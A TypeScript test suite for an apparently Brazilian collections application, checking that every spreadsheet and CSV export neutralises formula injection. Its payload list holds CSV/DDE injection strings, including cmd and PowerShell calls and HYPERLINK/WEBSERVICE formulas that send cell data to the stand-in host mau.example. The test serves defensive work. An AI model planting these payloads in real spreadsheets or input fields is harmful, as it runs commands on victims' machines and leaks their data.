// Formula injection in every cell of every export: in all declared listings, and in the file of
// every call over a database full of hostile texts. The long run: FORMULA_TEXTS=10000.
import { globSync } from 'node:fs'
import { pathToFileURL } from 'node:url'

import type { FastifyInstance, LightMyRequestResponse } from 'fastify'
import { readXlsx, writeXlsx } from 'hucre/xlsx'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'

import type { Call } from '#contract/call.ts'
import type { AnyColumn } from '#listing/definition.ts'
import { rebuildAllSnapshots } from '#features/collection/prioritisation/actions/snapshot.ts'
import { declaredRegisters } from '#listing/register.ts'
import { exportListingAsCsv, exportRows } from '#listing/server/export.ts'
import { localDate } from '#values/local-date.ts'

import { fixedDayClock } from '../work/clock.ts'
import { committedDatabase } from '#testing/test-database.ts'
import { inTransaction, type Tx } from '../database/connection.ts'
import { authenticator, featureRoutes } from '#app/features.ts'
import type { FileAnswer } from './file-answer.ts'
import { unzip } from '#testing/test-answers.ts'
import { arrange, testApp } from '#testing/test-app.ts'
import { addPerson, addTwoMalls, type TwoMalls } from '#testing/test-malls.ts'
import { registerSamples } from '#testing/test-register-samples.ts'
import { requestOf } from '#testing/test-requests.ts'
import { samples } from '#testing/test-samples.ts'
import { targetsOf } from '#testing/test-targets.ts'

const database = committedDatabase()
const count = Number(process.env['FORMULA_TEXTS'] ?? 500)
let state = Number(process.env['FORMULA_SEED'] ?? 20_261_118)
const chance = (below: number) => {
  state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0
  return Math.floor((state / 2 ** 32) * below)
}
const one = <T>(list: readonly T[]): T => list[chance(list.length)] as T

const before = [
  '',
  '',
  '',
  ' ',
  '  ',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '\u00a0',
  '\u200b',
  '\ufeff',
  '\u2003',
  '\u0001',
  '\u000b',
]
const signs = [
  '=',
  '+',
  '-',
  '@',
  '\uff1d',
  '\uff0b',
  '\uff0d',
  '\uff20',
  '==',
  '=+',
  '-+',
  '\t=',
  '\n@',
]
const bodies = [
  '1+1',
  "cmd|' /C calc'!A0",
  'cmd|"/c powershell iwr mau.example"!_xlbgnm.A1',
  'SUM(1+1)*cmd|calc!A1',
  'HYPERLINK("http://mau.example?"&A1,"clique")',
  'WEBSERVICE("http://mau.example/"&A1)',
  'IMPORTXML("http://mau.example","//a")',
  'DDE("cmd";"/C calc";"x")',
  '2+3";=1+1;"',
  '1;=2+2\r\n=3+3',
  '"&"<f>1+1</f>',
  ']]><f>1+1</f>',
  "'=1+1",
  'R1C1',
  '\ud83d\ude42\ud800',
]
const hostileText = (index: number) => `${one(before)}${one(signs)}${one(bodies)}${index}`
const hostile = Array.from({ length: count }, (_, index) => hostileText(index))

/**
 * Texts that spreadsheet programs execute as formulas, with leading blanks, and the further
 * characters of OWASP.
 */
const runs = /^[\s\u200b\ufeff\u0000-\u001f]*[=+\-@\uff0b\uff0d\uff1d\uff20]|^[\t\r\n]/u

const bytesOf = async (pieces: AsyncIterable<Uint8Array>) => {
  const all: Uint8Array[] = []
  for await (const piece of pieces) all.push(piece)
  return Buffer.concat(all)
}

/** Parses a CSV like a spreadsheet program: quotes, semicolons, line breaks in quotes. */
function csvCells(text: string): string[][] {
  const lines: string[][] = [[]]
  const cell = /(?:"((?:[^"]|"")*)"|([^;\r\n]*))(;|\r\n|\r|\n|$)/y
  for (cell.lastIndex = 0; cell.lastIndex < text.length;) {
    const [, quoted, plain = '', end] = cell.exec(text) ?? [
      undefined,
      undefined,
      text.slice(cell.lastIndex),
      '',
    ]
    if (cell.lastIndex === 0) break
    lines.at(-1)?.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'))
    if (end !== ';') lines.push([])
  }
  return lines
}

/** All texts of a spreadsheet; fails if it contains a formula. */
async function sheetTexts(bytes: Buffer): Promise<string[]> {
  const { sheets } = await readXlsx(bytes)
  const formulas = sheets.flatMap(({ cells }) =>
    [...(cells?.values() ?? [])].filter(({ formula }) => formula !== undefined),
  )
  expect(formulas).toEqual([])
  return sheets
    .flatMap(({ rows }) => rows.flat())
    .filter((value): value is string => typeof value === 'string')
}

let cellsSeen = 0
function expectHarmless(texts: readonly string[], about: string): void {
  cellsSeen += texts.length
  expect(
    texts.filter((text) => runs.test(text)),
    about,
  ).toEqual([])
}

describe('the formula detector', () => {
  test.each(['=1', '  +1', '-cmd', '@SUM(1)', '\tx', '\r=1', '\uff1d1', '\u00a0=1'])(
    'sees %j',
    (text) => {
      expect(() => expectHarmless(['fine', text], 'seen')).toThrow('seen')
    },
  )

  test('finds a formula in a spreadsheet, whatever its text', async () => {
    const bytes = await writeXlsx({
      sheets: [
        { name: 'Plan1', rows: [['a']], cells: new Map([['0,0', { formula: '1+1', value: 2 }]]) },
      ],
    })
    await expect(sheetTexts(Buffer.from(bytes))).rejects.toThrow('to deeply equal')
  })
})

type DeclaredList = {
  readonly name: string
  readonly columns: readonly AnyColumn[]
  readonly sortedBy: string
  readonly title: string
}
const isListing = (value: unknown): value is DeclaredList =>
  typeof value === 'object' &&
  value !== null &&
  'columns' in value &&
  'sortedBy' in value &&
  'search' in value

/** Every listing of the features, including those made by a function per profile or cycle. */
async function declaredListings(): Promise<DeclaredList[]> {
  const found = new Map<string, DeclaredList>()
  for (const file of globSync('src/features/**/contract{.ts,/*.ts}')) {
    const module = (await import(pathToFileURL(file).href)) as Record<string, unknown>
    for (const value of Object.values(module)) {
      const made: unknown =
        typeof value === 'function' && value.length <= 1 ? attempt(value as () => unknown) : value
      if (isListing(made)) found.set(made.name, made)
    }
  }
  return [...found.values()]
}
function attempt(make: (argument?: unknown) => unknown): unknown {
  try {
    return make('11/2026')
  } catch {
    return undefined
  }
}

const numeric = new Set(['money', 'number', 'percent'])
/** A row with negative numbers in number columns and the hostile text elsewhere. */
function rowOf({ columns }: DeclaredList, text: string): Record<string, unknown> {
  const row: Record<string, unknown> = {}
  for (const { of, as = 'text' } of columns) {
    const [head = '', tail] = of.split('.')
    const value = numeric.has(as)
      ? -100
      : as === 'instant'
        ? new Date('2026-11-18T12:00:00Z')
        : text
    if (tail === undefined) row[head] = value
    else row[head] = { ...(row[head] as object | undefined), [tail]: value }
  }
  return row
}

describe('a listing', () => {
  let listings: DeclaredList[] = []
  beforeAll(async () => {
    listings = await declaredListings()
  })
  const about = {
    title: '=1+1',
    user: '@SUM(1)',
    at: new Date('2026-11-18T12:00:00Z'),
    filterWords: ['+1', '=2'],
  }
  const inside = <T>(act: (tx: Tx) => Promise<T>) =>
    inTransaction(database.app, { malls: 'all' }, act)
  const written = (file: FileAnswer) => inside((tx) => bytesOf(file.open(tx)))

  test('is found by its declaration', () => expect(listings.length).toBeGreaterThan(10))

  test(`as a spreadsheet contains ${count} hostile texts as text in every column, and numbers as numbers`, async () => {
    for (const listing of listings) {
      const rows = hostile.map((text) => rowOf(listing, text))
      const bytes = await written(exportRows(listing, rows, undefined, about))
      const texts = await sheetTexts(bytes)
      expectHarmless(texts, listing.name)
      const exportedColumns = listing.columns.filter(({ only }) => only !== 'screen')
      const asText = exportedColumns.filter(({ as = 'text' }) =>
        ['text', 'name', 'mall', 'code'].includes(as),
      ).length
      if (asText > 0) expect(texts.length, listing.name).toBeGreaterThanOrEqual(count * asText)
      const { sheets } = await readXlsx(bytes)
      const numbers = (sheets[0]?.rows ?? [])
        .flat()
        .filter((value) => typeof value === 'number' && value < 0)
      const countedCount = exportedColumns.filter(({ as = 'text' }) => numeric.has(as)).length
      expect(numbers.length, listing.name).toBeGreaterThanOrEqual(count * countedCount)
    }
  }, 120_000)

  test(`as CSV contains ${count} hostile texts as text`, async () => {
    const [listing] = listings.filter(({ columns }) => columns.every(({ of }) => !of.includes('.')))
    for (const { name, columns } of listing ? [listing] : []) {
      const { sql } = await import('kysely')
      const texts = sql`
        (
          select t, i
          from unnest(
            ${hostile.map((text) => text.toWellFormed().replaceAll('\u0000', ''))}::text[]
          )
          with ordinality as h (t, i)
        ) h`
      const file = exportListingAsCsv(
        { name, columns, sortedBy: '' },
        {
          from: texts,
          columns: Object.fromEntries(
            columns.map(({ of, as = 'text' }) => [of, numeric.has(as) ? sql`-100` : sql`h.t`]),
          ),
          sorts: {},
          filters: {},
          key: sql`h.i`,
        } as never,
        {},
        about,
      )
      const cells = csvCells((await written(file)).toString('utf8').replace(/^\ufeff/, ''))
      expectHarmless(
        cells
          .slice(1)
          .flat()
          .filter((cell) => !/^-\d+(,\d+)?$/.test(cell)),
        name,
      )
      expect(cells.length, name).toBeGreaterThanOrEqual(count)
    }
  }, 60_000)
})

/** Exports that are empty in this test database, with the reason. */
const withoutRows: Readonly<Record<string, string>> = {
  'negativation.downloadApprovalSheet': 'a PDF has no cells',
  'lawsuitDecisions.downloadApprovalSheet': 'a PDF has no cells',
  'openBalances.downloadStatement': 'a PDF has no cells',
  'firstMigration.downloadComparison': 'a PDF has no cells',
  'sending.downloadLetters': 'a PDF has no cells',
  'sending.downloadDispatchCsv':
    'leaves byte for byte as it was made: sending/gateway/dispatch-csv.test.ts',
  'receivedFiles.downloadBytes': 'the bytes of a file leave as they came',
  'receivedFiles.downloadOrderRows':
    'its cells are those of a real file: file-intake/readings.test.ts',
  'doubtfulTitulos.downloadTwins': 'no two títulos agree: doubtful-lists.test.ts',
  'doubtfulTitulos.downloadUnconfirmed': 'every título was confirmed: doubtful-lists.test.ts',
  'sources.download': 'only the sources of the product, without a text from outside',
  'delinquencyRuns.downloadDifferences':
    'rows of a month that was closed and worked out again: its own routes ask it',
}

describe('a database whose every text is hostile', () => {
  const routes = featureRoutes({
    access: { identity: { kind: 'demo' }, supportUrl: undefined, version: '1', environment: 'dev' },
  })
  const calls = routes.map(({ call }) => call)
  const files = calls.filter(
    ({ effect, answer, access }) =>
      effect === 'read' && answer === undefined && access !== 'public',
  )
  let app: FastifyInstance
  let world: TwoMalls
  let token: string
  let filled: string[] = []

  /** Overwrites every text column without constraints, with a different text per row. */
  async function fill(): Promise<string[]> {
    const { rows } = await database.adminPool.query<{
      name: string
      field: string
      several: boolean
    }>(
      `
        select c.table_name as name, c.column_name as field, c.udt_name = '_text' as several
        from information_schema.columns c
         join information_schema.tables t using (table_schema, table_name)
       where table_schema = 'public'
         and table_type = 'BASE TABLE'
         and udt_name in ('text', '_text')
         and is_generated = 'NEVER'
         and (
           table_name in ('mall', 'company', 'collection_group', 'app_user') or exists (
             select from information_schema.columns m
           where m.table_schema = 'public'
             and m.table_name = c.table_name
             and m.column_name = 'mall_id')
             or table_name in (
               'erp_load_issue', 'exception_record', 'file_import', 'file_import_issue',
               'price_index_value', 'received_file')
             -- The tables of registers; rules depend on the texts of these few.
             or exists (
               select from information_schema.columns v
               where v.table_schema = 'public'
                 and v.table_name = c.table_name
                 and v.column_name = 'updated_by_name')
             and table_name not in (
               'parameter', 'profile', 'negotiation_stage', 'expectation_type',
               'unlikely_reason', 'group_brand_status', 'justification')
             or (table_name, column_name) in (
               ('justification', 'text'), ('setting_proposal', 'proposed_by_name'),
               ('bureau_batch', 'created_by_name')))
         and column_name <> 'media_type'
         -- Codes of derived tables, which no user types.
         and table_name not in (
           'audit_entry', 'user_mall', 'stale_key', 'negativated_item', 'negativated_tally', 'negativated_person')
         order by 1, 2`,
    )
    const done: string[] = []
    const texts = hostile.map((text) => text.toWellFormed())
    for (const { name, field, several } of rows) {
      const text = '($1::text[])[1 + (r.n + $3) % $2] || r.n'
      const placed = await database.adminPool
        .query(
          `update ${name} t set ${field} = ${several ? `array[${text}]` : text} from (select ctid, row_number() over () as n from ${name}) r where t.ctid = r.ctid`,
          [texts, texts.length, chance(count)],
        )
        .catch(() => undefined)
      if ((placed?.rowCount ?? 0) > 0) done.push(`${name}.${field}`)
    }
    return done
  }

  /** Adds the sample record to each register of every mall that has none. */
  async function addRecords(): Promise<void> {
    for (const [name, { listing, create }] of declaredRegisters()) {
      const fields = registerSamples[name]?.fieldsToCreate?.(world)
      if (!create?.call.company || !fields) continue
      const sample = samples[listing.search.name]?.(targetsOf(world).absent) ?? {}
      const found = await app.inject(requestOf(listing.search, sample, token))
      const { content = [], data = content } = found.json<{ content?: []; data?: [] }>()
      if (data.length > 0) continue
      const answer = await app.inject(requestOf(create.call, { body: fields }, token))
      expect(answer.statusCode, answer.body).toBe(200)
    }
  }

  beforeAll(async () => {
    app = await testApp({
      db: database.app,
      routes,
      clock: fixedDayClock(localDate('2026-11-18')),
      authenticate: authenticator({ db: database.app, secureCookies: false }),
    })
    world = await addTwoMalls(database.adminPool)
    await database.adminPool.query(`
      insert into profile (name, code, sees_every_mall) values ('=TUDO', 'TUDO', true);
      insert into exception_record (
        list, document_type_id, cost_center, number, competence_year, economic_unit, module_ids,
          mall_ids, note, created_by_name, updated_by_name
      )
      select list, case list when 'tipo-documento' then (select min(id) from document_type) end,
        case list when 'centro-lucro' then '1001' else '' end,
        case list
          when 'numero-documento' then '1'
          else ''
        end, case list
          when 'numero-documento' then 2026
        end,
        case list
          when 'numero-documento' then '1'
          else ''
        end, '{1}', (select array_agg(id) from mall), 'x', 'x', 'x'
      from unnest(array['tipo-documento', 'centro-lucro', 'numero-documento']) as lists (list);
      insert into profile_permission (profile_id, rule_id)
      select p.id, r.id
      from profile p, menu_rule r
      where p.code = 'TUDO'`)
    // The sample export of a sending's rest needs these rows.
    await database.adminPool.query(`
      insert into unsent_boleto (sending_id, mall_id, item_id, kind, code, reason, stays)
      select '00000000-0000-4000-8000-000000000001', mall_id, id, 'BLOQUEADO', 'G08', 'x', false
      from negativation_item
      limit 20`)
    await database.adminPool.query(`
      insert into price_index_value (index_name, month, version, rate_e8, created_by_name)
      values ('IPCA', '2025-12-01', 1, 330000, 'x')`)
    await database.adminPool.query(
      `
        insert into case_agreement (mall_id, contract_id, case_number, agreed_on, amount_cents,
          instalments, first_due_on, status, updated_by_name)
        select mall_id, id, '35114518520268260006', '2026-08-29', 1, 1, '2026-09-13', 'QUITADO', 'x'
        from contract where mall_id = $1 order by id limit 1`,
      [world.own.mall],
    )
    await database.adminPool.query(
      `
        insert into lawsuit_left_out (titulo_id, mall_id, contract_id, reason)
        select id, mall_id, contract_id, 'NAO_CLASSIFICADO'
        from titulo where mall_id = $1 order by id limit 1
        on conflict do nothing`,
      [world.own.mall],
    )
    await database.adminPool.query(`
      insert into setting_proposal (
        kind, parameter_code, base_version, before, after, proposed_by, proposed_by_name,
          proposed_at, expires_on
      )
      select 'PARAMETRO', code, version, '{"valor": "30"}', '{"valor": "31"}', 1, 'x',
        '2026-11-18', '2026-11-25'
      from parameter
      where code = 'DIAS_ATRASO_MIN';
      insert into job_run (job, finished_at) values ('ENVIO', now());
      -- Parameters are read once: what they show must be there before that.
      update parameter set updated_by_name = '=1+1';
      update negativation_item set removal_started_on = '2026-11-16', removal_alert_on = '2026-11-19',
        removal_due_on = '2026-11-23', removal_release_on = '2026-11-20'`)
    // The export needs batches that are old enough for a review.
    await database.adminPool.query(`update bureau_batch set movement_on = '2026-07-01'`)
    await database.adminPool.query('delete from queue_postponement')
    // The prescription radar needs three-year-old debts; the today queue needs a broken promise.
    await database.adminPool.query(
      `update negotiation set contact_on = '2026-09-30', agreement_on = '2026-10-01' where mall_id = $1`,
      [world.own.mall],
    )
    await database.adminPool.query(
      `update titulo set original_due_on = '2023-12-01' where mall_id = $1`,
      [world.own.mall],
    )
    token = (await addPerson(database.adminPool, 'tudo', 'TUDO', [])).token
    await arrange(
      { db: database.app, clock: fixedDayClock(localDate('2026-11-18')) },
      app,
      rebuildAllSnapshots,
    )
    await addRecords()
    filled = await fill()
    // This list shows only automatic jobs.
    await database.adminPool.query(`update job_run set job = 'ENVIO'`)
  }, 60_000)
  afterAll(() => app.close())

  async function textsOf({
    headers,
    rawPayload,
    body,
  }: LightMyRequestResponse): Promise<string[] | undefined> {
    const kind = String(headers['content-type'])
    if (kind.includes('spreadsheet')) return sheetTexts(rawPayload)
    if (kind.includes('zip'))
      return (
        await Promise.all(
          [...unzip(rawPayload)]
            .filter(([name]) => name.endsWith('.xlsx'))
            .map(([, bytes]) => sheetTexts(bytes)),
        )
      ).flat()
    if (kind.startsWith('text/csv')) return csvCells(body.replace(/^\ufeff/, '')).flat()
    return undefined
  }

  test('has hostile texts in exported columns', () => {
    expect(filled.length).toBeGreaterThan(30)
    for (const field of [
      'mall.name',
      'negativation_item.trade_name',
      'negativation_item.observation',
      'item_person.name',
      'erp_load_issue.row_text',
    ])
      expect(filled).toContain(field)
  })

  test('gives no formula in any export', async () => {
    const seen = new Set<string>()
    const askAll = async (wanted: readonly Call[]) => {
      for (const call of wanted) {
        for (const target of [targetsOf(world).own, targetsOf(world).absent]) {
          const answer = await app.inject(
            requestOf(call, samples[call.name]?.(target) ?? {}, token),
          )
          expect([200, 404, 409], `${call.name}: ${answer.body.slice(0, 200)}`).toContain(
            answer.statusCode,
          )
          const texts = answer.statusCode === 200 ? await textsOf(answer) : undefined
          if (!texts) continue
          expectHarmless(texts, call.name)
          if (texts.some((text) => text.startsWith("'"))) seen.add(call.name)
        }
      }
    }
    await askAll(files)
    // Calls that filter by mall, contract or boleto need these real names.
    const { mall, mallName, tenant, document, contract, boleto, slipNumber } = world.own
    await database.adminPool.query('update mall set name = $2, economic_unit = $2 where id = $1', [
      mall,
      mallName,
    ])
    await database.adminPool.query('update tenant set document = $2 where id = $1', [
      tenant,
      document,
    ])
    await database.adminPool.query('update contract set number = $2, document = $3 where id = $1', [
      contract,
      'C Próprio',
      document,
    ])
    await database.adminPool.query('update boleto set number = $2 where id = $1', [
      boleto,
      slipNumber,
    ])
    await database.adminPool.query(
      `update group_tenant g set document = c.document, luc = c.luc
       from contract c where c.id = $1 and g.mall_id = c.mall_id`,
      [contract],
    )
    await askAll(files.filter(({ name }) => !seen.has(name)))
    // An export without rows proves nothing.
    const sheets = files
      .filter(({ name }) => /download/.test(name) && !/Dossier/.test(name))
      .map(({ name }) => name)
    expect(sheets.length).toBeGreaterThan(5)
    expect(sheets.filter((name) => !seen.has(name) && !(name in withoutRows))).toEqual([])
  }, 60_000)
})

test('at least ten thousand cells were checked', () =>
  expect(cellsSeen).toBeGreaterThanOrEqual(10_000))
